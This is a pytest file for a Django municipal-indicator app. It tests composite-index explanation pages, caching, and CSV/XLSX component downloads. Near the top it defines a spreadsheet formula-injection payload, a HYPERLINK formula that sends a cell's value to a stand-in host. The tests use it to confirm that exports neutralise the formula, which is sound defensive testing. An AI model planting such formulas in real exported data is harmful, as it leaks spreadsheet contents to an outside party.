"""A composite index on its indicator page, internal and public, and in its download: the
index of tests/index_example.py (the numbers worked out in tests/monitoring/test_index_explain.py:
KU999 scores 37.5 in 2021, rank 2 of 3, firmly; its components 0 and 50, contributing 0 and
37.5; since 2020 toinen moved it +37.5 points and mittari −12.5)."""

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from mittaristo.core.models import Area
from mittaristo.core.periods import parse_period
from mittaristo.observations.services import ObservationRow, observations_upsert
from mittaristo.reviews.models import ReviewRound
from mittaristo.reviews.snapshot import build_snapshot
from mittaristo.web.cache import cached_index, data_version
from tests.index_example import small_index

pytestmark = pytest.mark.django_db
PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A2;"klik")'


def test_the_internal_page_explains_the_index(admin_client, minimal_strategy):
    small_index(minimal_strategy)
    html = admin_client.get("/app/mittarit/indeksi/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Index 2021: 37.5" in html and "(on a scale of 0–100)" in html
    assert "Rank 2 of 3; rank 2 under at least nine in ten other reasonable choices" in html
    assert "In 2020: 12.5, rank 3." in html
    # A real table: a caption, column headers, a row header per component.
    table = html[html.index('<table class="index-components">') :]
    table = re.sub(r">\s+<", "><", table[: table.index("</table>")])
    assert "<caption>The index's components in 2021</caption>" in table
    assert table.count('<th scope="col">') == 6 and table.count('<th scope="row">') == 2
    assert 'Second <span class="index-kind">(lower is better)</span>' in table
    # Toinen: 5 (points 50, weight 3 = 75 %, contribution 37.5, rank 2).
    assert "<td>5 persons</td><td>50</td><td>3 (75&nbsp;%)</td><td>37.5</td><td>2</td>" in table
    assert "Second: +37.5 points" in html and "Mittari</span>: −12.5 points" in html
    assert "Monte Carlo uncertainty analysis" in html and "OECD/JRC Handbook" in html
    assert "/app/mittarit/indeksi/osatekijat.csv" in html
    # An indicator that is no index has no such section.
    plain = admin_client.get("/app/mittarit/mittari/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "index-explained" not in plain and "osatekijat" not in plain


def test_the_explanation_is_cached_until_a_component_changes_in_any_area(minimal_strategy):
    index = small_index(minimal_strategy)
    own = minimal_strategy.organisation.get_or_create_area()
    version = data_version(minimal_strategy, today=dt.date.today())
    first = cached_index(index, own, version=version)
    assert first.value == 37.5 and cached_index(index, own, version=version) == first
    # Another municipality's value: not in the data version, yet the explanation changes.
    # KU997's mittari 30 → 0: mittari now spans 0…20, so KU999's 10 scores 50, giving
    # 0.25 × 50 = 12.5; toinen unchanged (37.5): the index is 50.
    other = Area.objects.get(code="997")
    mittari = minimal_strategy.indicators.get(code="mittari")
    observations_upsert(
        rows=[ObservationRow(mittari.pk, other.pk, parse_period("2021"), Decimal("0"))],
        source_kind="manual",
    )
    assert data_version(minimal_strategy, today=dt.date.today()) == version
    assert cached_index(index, own, version=version).value == 50.0


def _publish(strategy):
    review = ReviewRound.objects.create(
        strategy=strategy,
        name="Tilinpäätös 2021",
        as_of=dt.date.today(),
        state=ReviewRound.State.PUBLISHED,
        published_at=timezone.now(),
    )
    review.snapshot = build_snapshot(review)
    review.save()
    return review


def test_the_public_page_and_download_render_the_published_record(client, minimal_strategy):
    index = small_index(minimal_strategy)
    second = minimal_strategy.indicators.get(code="toinen")
    second.name = {"fi": PAYLOAD}  # a name is a person's text: never a live formula
    second.save()
    review = _publish(minimal_strategy)
    kept = review.snapshot["indicators"]["indeksi"]["index"]
    assert (kept["year"], kept["value"], kept["rank"], kept["count"]) == (2021, 37.5, 2, 3)
    # The record, not the database, is what the public page shows: change the data after.
    index.index = {**index.index, "aggregation": "geometric"}
    index.save()
    html = client.get("/mittarit/indeksi/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "Index 2021: 37.5" in html and "Rank 2 of 3" in html
    assert "weighted arithmetic mean" in html
    text = client.get("/mittarit/indeksi/osatekijat.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert [r[3] for r in rows[1:]] == ["indeksi", "mittari", "toinen"]
    assert rows[1][10] == "37,5" and rows[1][14] == "2" and rows[1][15] == "3"
    assert rows[3][4] == "'" + PAYLOAD  # neutralised
    assert (rows[3][8], rows[3][10], rows[3][12], rows[3][13]) == ("5", "50", "0,75", "37,5")
    content = client.get("/mittarit/indeksi/osatekijat.xlsx").content
    cells = list(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2, values_only=False))
    assert (cells[2][4].value, cells[2][4].data_type) == (PAYLOAD, "s")
    assert cells[2][13].value == 37.5 and cells[2][13].data_type == "n"
    assert client.get("/mittarit/mittari/osatekijat.csv").status_code == 404


def test_the_internal_download_gives_the_components(admin_client, minimal_strategy):
    small_index(minimal_strategy)
    response = admin_client.get("/app/mittarit/indeksi/osatekijat.csv")
    assert response["Content-Disposition"].endswith('-indeksi-KU999-2021.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert [(r[3], r[10], r[13]) for r in rows[1:]] == [
        ("indeksi", "37,5", ""),
        ("mittari", "0", "0"),
        ("toinen", "50", "37,5"),
    ]
    assert admin_client.get("/app/mittarit/mittari/osatekijat.csv").status_code == 404
    assert admin_client.get("/app/mittarit/indeksi/osatekijat.json").status_code == 404


def test_a_definition_that_cannot_be_computed_is_said_not_hidden(admin_client, minimal_strategy):
    index = small_index(minimal_strategy)
    index.index = {"aggregation": "median", "components": []}
    index.save()
    html = admin_client.get("/app/mittarit/indeksi/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert "definition cannot be computed:" in html
    assert "aggregation: one of arithmetic, geometric" in html
    assert "components.components: a group needs components" in html
    assert "osatekijat.csv" not in html
